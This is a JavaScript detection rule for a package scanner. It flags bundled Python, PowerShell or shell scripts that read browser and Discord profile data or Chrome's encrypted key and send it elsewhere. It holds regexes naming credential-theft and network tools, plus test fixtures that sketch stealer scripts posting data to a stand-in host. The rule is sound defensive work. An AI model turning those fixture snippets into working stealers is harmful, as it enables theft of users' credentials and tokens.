import { defineRule } from '../src/define.js';
import { isChatTokenPattern, profileOwnersIn } from '../src/vocabulary/places.js';

/** Scripts of other languages that a package may start. */
const SCRIPTS = /\.(?:pyw?|ps1|vbs|bat|cmd|sh|rb|lua)$/i;
/** Opens what a browser keeps encrypted for its user. */
const OPENS = /CryptUnprotectData|\bos_crypt\b|ProtectedData\]::Unprotect|encrypted_key/;
/** Talks to other machines. */
const SENDS =
  /\b(?:requests|httpx|urllib3?|aiohttp)\b|\bsocket\.|Invoke-(?:WebRequest|RestMethod)|Net\.WebClient|\bcurl\b|\bwget\b|MSXML2\.|webhook/i;
const TOKEN_LINE = /^.{0,400}(?:\{6\}|mfa|dQw4w9WgXcQ).{0,100}$/gm;
const MOST_TEXT = 500_000;

export default defineRule({
  meta: {
    summary: 'Brings a script that gathers what browsers and chat clients keep',
    why: 'A package can leave its theft to Python, PowerShell or a shell, where JavaScript is not looked at. Build scripts and wrappers of other languages name no browser’s profile; a tool that opens one browser’s cookies names one.',
    behaviour: 'theft',
    messages: {
      many: '{path} goes through the profiles of {count} programs and talks to other machines',
      opens: '{path} opens what a browser keeps encrypted and talks to other machines',
    },
    bits: { many: 13.5, opens: 9 },
  },
  examples: {
    flags: [
      {
        title: 'a Python script lists profiles and posts tokens',
        files: {
          'package.json': '{"name":"a","version":"1.0.0"}',
          'main.py':
            "import os, re, requests\nroaming = os.getenv('APPDATA')\nfor path in [roaming + '\\\\discord\\\\Local Storage\\\\leveldb', roaming + '\\\\discordptb\\\\Local Storage\\\\leveldb', roaming + '\\\\Opera Software\\\\Opera Stable\\\\x', roaming + '\\\\Google\\\\Chrome\\\\User Data']:\n  pass\nrequests.post('https://collect.invalid', data=found)\n",
        },
      },
      {
        title: 'a PowerShell script opens saved passwords',
        files: {
          'package.json': '{"name":"a","version":"1.0.0"}',
          'run.ps1':
            '$key = (Get-Content "$env:LOCALAPPDATA/Google/Chrome/User Data/Local State" | ConvertFrom-Json).os_crypt.encrypted_key\nInvoke-WebRequest -Uri "https://collect.invalid" -Method POST -Body $key\n',
        },
      },
    ],
    passes: [
      {
        title: 'a script finds where a browser is installed',
        files: {
          'package.json': '{"name":"a","version":"1.0.0"}',
          'find.ps1':
            '$chrome = "C:/Program Files/Google/Chrome/Application/chrome.exe"\nInvoke-WebRequest -Uri "https://versions.invalid"\n',
        },
      },
      {
        title: 'a script opens a cookie store and keeps it',
        files: {
          'package.json': '{"name":"a","version":"1.0.0"}',
          'cookies.py': 'import sqlite3\nfrom win32crypt import CryptUnprotectData\nprint(CryptUnprotectData(value))\n',
        },
      },
    ],
  },
  package({ package: { files }, sourceOf, report }) {
    for (const path of files.keys()) {
      if (!SCRIPTS.test(path)) continue;
      const file = sourceOf(path);
      const text = file?.text.slice(0, MOST_TEXT) ?? '';
      const sends = SENDS.exec(text);
      if (!file || !sends) continue;
      const owners = profileOwnersIn(text);
      const opens = OPENS.exec(text);
      const token = [...text.matchAll(TOKEN_LINE)].slice(0, 50).some(([line]) => isChatTokenPattern(line));
      const many = owners.size >= 4 || (owners.size > 0 && token);
      if (!many && !opens) continue;
      const first = opens ?? sends;
      report({
        messageId: many ? 'many' : 'opens',
        data: { path, count: owners.size },
        chain: [
          {
            role: 'source',
            says: many ? `names ${[...owners].slice(0, 5).join(', ')}` : 'opens what a browser keeps encrypted',
            origin: { file, start: first.index, end: first.index + first[0].length },
          },
          {
            role: 'sink',
            says: 'talks to other machines',
            origin: { file, start: sends.index, end: sends.index + sends[0].length },
          },
        ],
      });
    }
  },
});
